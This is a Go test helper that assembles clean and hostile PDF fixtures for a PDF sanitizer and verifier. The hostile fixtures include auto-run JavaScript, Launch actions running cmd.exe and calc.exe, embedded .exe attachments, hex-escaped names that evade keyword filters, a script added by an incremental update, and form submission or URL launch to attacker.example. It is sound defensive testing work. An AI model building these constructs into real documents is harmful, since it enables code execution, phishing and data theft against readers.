// Package pdftest builds small hand-written PDF files, clean and hostile, for
// the tests of mugai's PDF disarm (sanitizer/pdf) and PDF verification
// (sanitizer/verify). Every file is assembled byte by byte with a correct
// cross-reference section (ISO 32000-1 §7.5.4) or cross-reference stream
// (§7.5.8), so the parser under test sees what a real writer would produce;
// the hostile ones carry one attack each, named after it.
//
// It is a test helper in the spirit of net/http/httptest: nothing in mugai's
// running code imports it.
package pdftest

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"sort"
	"strings"
)

// Fixture is one PDF file with the facts a test asserts about it.
type Fixture struct {
	Name  string
	Bytes []byte
	// Pages is the number of pages a reader must find.
	Pages int
	// Removed is what a disarm must report removing (links removed policy).
	Removed map[string]int
	// RemovedKeepLinks is what a disarm must report when links are kept;
	// nil means the same as Removed.
	RemovedKeepLinks map[string]int
	// Hostile tells whether the file carries active content that a
	// verifier must refuse (with URI links refused).
	Hostile bool
	// Text holds content-stream fragments (text operators) that must
	// survive a disarm, one slice per page.
	Text [][]string
	// Gone holds byte strings that must not appear in a disarmed output,
	// neither raw nor in any decoded stream (older revisions' content).
	Gone []string
}

// Object is one indirect object: its number and the text between
// "N 0 obj" and "endobj" (a stream object includes its stream keyword).
type Object struct {
	Num  int
	Body string
}

// Stream returns the body of a stream object with dict entries extra and
// the given (unencoded) data.
func Stream(extra, data string) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", extra, len(data), data)
}

// FlateStream returns the body of a FlateDecode stream object.
func FlateStream(extra string, data []byte) string {
	z := deflate(data)
	return fmt.Sprintf("<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", extra, len(z), z)
}

func deflate(data []byte) []byte {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write(data)
	_ = w.Close()
	return b.Bytes()
}

// Build assembles a PDF 1.7 file with a classic xref table. trailer holds
// extra trailer entries besides /Size (e.g. "/Root 1 0 R").
func Build(objs []Object, trailer string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	appendSection(&b, objs, trailer, -1, 0)
	return b.Bytes()
}

// AppendUpdate appends an incremental update (ISO 32000-1 §7.5.6) to base:
// new or replaced objects, a new xref section and a trailer with /Prev.
func AppendUpdate(base []byte, objs []Object, trailer string) []byte {
	prev := lastStartXRef(base)
	b := bytes.NewBuffer(append([]byte(nil), base...))
	appendSection(b, objs, trailer, prev, lastInt(base, "/Size"))
	return b.Bytes()
}

func lastStartXRef(pdf []byte) int {
	return lastInt(pdf, "startxref")
}

// lastInt returns the integer after the last occurrence of key.
func lastInt(pdf []byte, key string) int {
	i := bytes.LastIndex(pdf, []byte(key))
	if i < 0 {
		return 0
	}
	var n int
	if f := strings.Fields(string(pdf[i+len(key):])); len(f) > 0 {
		_, _ = fmt.Sscan(f[0], &n)
	}
	return n
}

func appendSection(b *bytes.Buffer, objs []Object, trailer string, prev, prevSize int) {
	offsets := map[int]int{}
	maxNum := 0
	for _, o := range objs {
		offsets[o.Num] = b.Len()
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", o.Num, o.Body)
		maxNum = max(maxNum, o.Num)
	}
	xref := b.Len()
	b.WriteString("xref\n")
	if prev < 0 {
		// First section: one subsection 0..maxNum.
		fmt.Fprintf(b, "0 %d\n", maxNum+1)
		b.WriteString("0000000000 65535 f\r\n")
		for n := 1; n <= maxNum; n++ {
			if off, ok := offsets[n]; ok {
				fmt.Fprintf(b, "%010d 00000 n\r\n", off)
			} else {
				b.WriteString("0000000000 65535 f\r\n")
			}
		}
	} else {
		nums := make([]int, 0, len(offsets))
		for n := range offsets {
			nums = append(nums, n)
		}
		sort.Ints(nums)
		for _, n := range nums {
			fmt.Fprintf(b, "%d 1\n%010d 00000 n\r\n", n, offsets[n])
		}
	}
	size := max(maxNum+1, prevSize)
	p := ""
	if prev >= 0 {
		p = fmt.Sprintf(" /Prev %d", prev)
	}
	fmt.Fprintf(b, "trailer\n<< /Size %d %s%s >>\nstartxref\n%d\n%%%%EOF\n", size, trailer, p, xref)
}

// BuildObjStm assembles a PDF 1.7 file whose objects inObjStm live in a
// compressed object stream (ISO 32000-1 §7.5.7) and whose cross-reference
// is a stream (§7.5.8). plain objects are written as usual.
func BuildObjStm(plain, inObjStm []Object, root int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	maxNum := 0
	for _, o := range append(append([]Object(nil), plain...), inObjStm...) {
		maxNum = max(maxNum, o.Num)
	}
	stmNum := maxNum + 1
	xrefNum := maxNum + 2
	type entry struct{ typ, f2, f3 int }
	entries := map[int]entry{0: {0, 0, 65535}}
	for _, o := range plain {
		entries[o.Num] = entry{1, b.Len(), 0}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", o.Num, o.Body)
	}
	var head, body strings.Builder
	for i, o := range inObjStm {
		fmt.Fprintf(&head, "%d %d ", o.Num, body.Len())
		body.WriteString(o.Body)
		body.WriteString("\n")
		entries[o.Num] = entry{2, stmNum, i}
	}
	data := head.String() + "\n" + body.String()
	z := deflate([]byte(data))
	entries[stmNum] = entry{1, b.Len(), 0}
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n",
		stmNum, len(inObjStm), len(head.String())+1, len(z), z)
	xrefOff := b.Len()
	entries[xrefNum] = entry{1, xrefOff, 0}
	var rows bytes.Buffer
	for n := 0; n <= xrefNum; n++ {
		e, ok := entries[n]
		if !ok {
			e = entry{0, 0, 0}
		}
		rows.Write([]byte{byte(e.typ), byte(e.f2 >> 24), byte(e.f2 >> 16), byte(e.f2 >> 8), byte(e.f2), byte(e.f3 >> 8), byte(e.f3)})
	}
	zr := deflate(rows.Bytes())
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n",
		xrefNum, xrefNum+1, root, len(zr), zr)
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xrefOff)
	return b.Bytes()
}

// Japanese text used by the clean fixture: 「無害化テスト」 and 「第2頁」 in
// UCS-2 (UniJIS-UCS2-H, Adobe-Japan1), hex strings in the content stream.
const (
	jpHello = "<7121 5BB3 5316 30C6 30B9 30C8>"
	jpPage  = "<7B2C 0032 9801>"
)

func jpFontObjects(fontNum int) []Object {
	return []Object{
		{fontNum, "<< /Type /Font /Subtype /Type0 /BaseFont /IPAGothic /Encoding /UniJIS-UCS2-H /DescendantFonts [" + fmt.Sprint(fontNum+1) + " 0 R] >>"},
		{fontNum + 1, "<< /Type /Font /Subtype /CIDFontType0 /BaseFont /IPAGothic /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 6 >> /FontDescriptor " + fmt.Sprint(fontNum+2) + " 0 R /DW 1000 >>"},
		{fontNum + 2, "<< /Type /FontDescriptor /FontName /IPAGothic /Flags 4 /FontBBox [0 -141 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 700 /StemV 80 >>"},
		{fontNum + 3, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"},
	}
}

// pageText returns the text operators of page n (1-based).
func pageText(n int) []string {
	return []string{
		"/F1 24 Tf",
		jpHello + " Tj",
		fmt.Sprintf("(Page %d of mugai test) Tj", n),
		jpPage + " Tj",
	}
}

func content(n int) []byte {
	t := pageText(n)
	return []byte(fmt.Sprintf("BT\n%s\n72 720 Td\n%s\n0 -40 Td\n/F2 12 Tf\n%s\n0 -40 Td\n/F1 24 Tf\n%s\nET\n", t[0], t[1], t[2], t[3]))
}

// doc describes a simple document to assemble: pages with the Japanese
// content, plus extra catalog, page and other objects.
type doc struct {
	pages     int
	catalog   string   // extra catalog entries
	page      []string // extra entries per page (index 0 = page 1)
	extra     []Object // more objects, numbered from 100
	objStmAll bool     // put all non-stream objects in an object stream
}

// objects numbers: 1 catalog, 2 pages, 3..6 fonts, 10+2i page, 11+2i contents.
func (d doc) objects() (plain, compressible []Object) {
	kids := make([]string, d.pages)
	for i := range d.pages {
		kids[i] = fmt.Sprintf("%d 0 R", 10+2*i)
	}
	compressible = append(compressible,
		Object{1, "<< /Type /Catalog /Pages 2 0 R " + d.catalog + " >>"},
		Object{2, fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", strings.Join(kids, " "), d.pages)},
	)
	compressible = append(compressible, jpFontObjects(3)...)
	for i := range d.pages {
		extra := ""
		if i < len(d.page) {
			extra = d.page[i]
		}
		compressible = append(compressible, Object{10 + 2*i, fmt.Sprintf(
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R /F2 6 0 R >> >> /Contents %d 0 R %s >>",
			11+2*i, extra)})
		plain = append(plain, Object{11 + 2*i, FlateStream("", content(i+1))})
	}
	for _, o := range d.extra {
		if strings.Contains(o.Body, "stream\n") {
			plain = append(plain, o)
		} else {
			compressible = append(compressible, o)
		}
	}
	return plain, compressible
}

func (d doc) build() []byte {
	plain, comp := d.objects()
	if d.objStmAll {
		return BuildObjStm(plain, comp, 1)
	}
	return Build(append(comp, plain...), "/Root 1 0 R")
}

func (d doc) text() [][]string {
	t := make([][]string, d.pages)
	for i := range t {
		t[i] = pageText(i + 1)
	}
	return t
}

// Clean returns a clean three-page document with Japanese text in a
// non-embedded Type0 font (UniJIS-UCS2-H) and a Helvetica line.
func Clean() Fixture {
	d := doc{pages: 3}
	return Fixture{Name: "CleanJapaneseThreePages", Bytes: d.build(), Pages: 3, Removed: map[string]int{}, Text: d.text()}
}

// Hostile returns one fixture per attack.
func Hostile() []Fixture {
	var fs []Fixture
	add := func(name string, d doc, removed, keep map[string]int) {
		fs = append(fs, Fixture{Name: name, Bytes: d.build(), Pages: d.pages, Removed: removed, RemovedKeepLinks: keep, Hostile: true, Text: d.text()})
	}

	add("OpenActionJavaScript", doc{pages: 1, catalog: "/OpenAction 100 0 R",
		extra: []Object{{100, "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\);) >>"}}},
		map[string]int{"openaction": 1, "javascript": 1}, nil)

	add("LaunchActionLink", doc{pages: 1, page: []string{"/Annots [100 0 R]"},
		extra: []Object{{100, "<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"}}},
		map[string]int{"launch": 1}, nil)

	add("EmbeddedFileAndFileAttachment", doc{pages: 2,
		catalog: "/Names << /EmbeddedFiles << /Names [(evil.exe) 100 0 R] >> >> /PageMode /UseAttachments",
		page:    []string{"/Annots [102 0 R]"},
		extra: []Object{
			{100, "<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 101 0 R >> >>"},
			{101, Stream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", "MZ this program cannot be run in DOS mode")},
			{102, "<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /Name /PushPin /Contents (open me) /FS 103 0 R >>"},
			{103, "<< /Type /Filespec /F (invoice.pdf.exe) /EF << /F 104 0 R >> >>"},
			{104, Stream("/Type /EmbeddedFile", "MZ second payload")},
		}},
		map[string]int{"embedded-file": 1, "file-attachment": 1}, nil)

	add("JavaScriptInObjectStream", doc{pages: 2, objStmAll: true,
		catalog: "/Names << /JavaScript 100 0 R >> /OpenAction 102 0 R",
		extra: []Object{
			{100, "<< /Names [(init) 101 0 R] >>"},
			{101, "<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x', nLaunch: 2}\\)) >>"},
			{102, "<< /S /JavaScript /JS 103 0 R >>"},
			{103, FlateStream("", []byte("app.launchURL('http://attacker.example/');"))},
		}},
		map[string]int{"javascript": 2, "openaction": 1}, nil)

	add("HexEscapedNames", doc{pages: 1, catalog: "/Open#41ction 100 0 R /N#61mes << /J#61vaScript << /Names [(a) 101 0 R] >> >>",
		extra: []Object{
			{100, "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"},
			{101, "<< /#53 /#4A#61#76#61#53#63#72#69#70#74 /JS (app.alert\\(2\\)) >>"},
		}},
		map[string]int{"openaction": 1, "javascript": 2}, nil)

	{
		d := doc{pages: 2}
		base := d.build()
		// Revision 2 replaces page 1's content and adds an OpenAction.
		upd := AppendUpdate(base, []Object{
			{1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 50 0 R >>"},
			{50, "<< /S /JavaScript /JS (app.alert\\('second revision'\\)) >>"},
			{11, FlateStream("", []byte("BT /F2 12 Tf 72 720 Td (Revised page one) Tj ET\n"))},
		}, "/Root 1 0 R")
		t := d.text()
		t[0] = []string{"(Revised page one) Tj"}
		fs = append(fs, Fixture{Name: "IncrementalUpdateAddsJavaScript", Bytes: upd, Pages: 2, Hostile: true,
			Removed: map[string]int{"openaction": 1, "javascript": 1}, Text: t,
			Gone: []string{"Page 1 of mugai test"}})
	}

	add("PageAdditionalActions", doc{pages: 2, page: []string{"", "/AA << /O << /S /JavaScript /JS (app.alert\\('page open'\\)) >> /C 100 0 R >>"},
		extra: []Object{{100, "<< /S /Launch /F (calc.exe) >>"}}},
		map[string]int{"additional-actions": 1, "javascript": 1, "launch": 1}, nil)

	add("AcroFormFieldScriptAndXFA", doc{pages: 1,
		catalog: "/AcroForm << /Fields [100 0 R] /XFA 101 0 R /CO [100 0 R] /DA (/Helv 0 Tf 0 g) /NeedAppearances true >>",
		page:    []string{"/Annots [100 0 R]"},
		extra: []Object{
			{100, "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Yamada) /Rect [72 500 300 520] /P 10 0 R /F 4 " +
				"/AA << /K << /S /JavaScript /JS (event.value = app.alert\\(1\\)) >> /C << /S /JavaScript /JS (event.value = 1) >> >> " +
				"/A << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/collect) >> /Flags 4 >> >>"},
			{101, Stream("", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script contentType=\"application/x-javascript\">app.alert(1)</script></xdp:xdp>")},
		}},
		map[string]int{"xfa": 1, "calculation-order": 1, "additional-actions": 1, "javascript": 2, "submitform": 1}, nil)

	add("URILink", doc{pages: 1, page: []string{"/Annots [100 0 R 101 0 R]"},
		extra: []Object{
			{100, "<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] /A << /S /URI /URI (https://phish.example/login) >> >>"},
			{101, "<< /Type /Annot /Subtype /Text /Rect [300 700 320 720] /Contents (a harmless note) /Open false >>"},
		}},
		map[string]int{"uri": 1}, map[string]int{})

	add("RichMediaAndSoundAnnotations", doc{pages: 1, page: []string{"/Annots [100 0 R 101 0 R] /Trans << /S /Dissolve /D 1 >>"},
		extra: []Object{
			{100, "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [(a.swf) 102 0 R] >> >> >>"},
			{101, "<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /OP 0 /JS (app.alert\\(3\\)) >> >>"},
			{102, "<< /Type /Filespec /F (a.swf) /EF << /F 103 0 R >> >>"},
			{103, Stream("/Type /EmbeddedFile", "FWS flash")},
		}},
		map[string]int{"richmedia": 1, "screen": 1}, nil)

	add("OutlineGoToWithScriptInNext", doc{pages: 2,
		catalog: "/OpenAction [12 0 R /Fit] /Outlines 100 0 R /PageMode /UseOutlines",
		extra: []Object{
			{100, "<< /Type /Outlines /First 101 0 R /Last 101 0 R /Count 1 >>"},
			{101, "<< /Title (Chapter 2) /Parent 100 0 R /A << /S /GoTo /D [12 0 R /XYZ 0 842 0] /Next << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>"},
		}},
		map[string]int{"javascript": 1, "openaction": 1}, nil)

	return fs
}

// HostileNamed returns the fixture of Hostile called name, and false if
// there is none.
func HostileNamed(name string) (Fixture, bool) {
	for _, f := range Hostile() {
		if f.Name == name {
			return f, true
		}
	}
	return Fixture{}, false
}
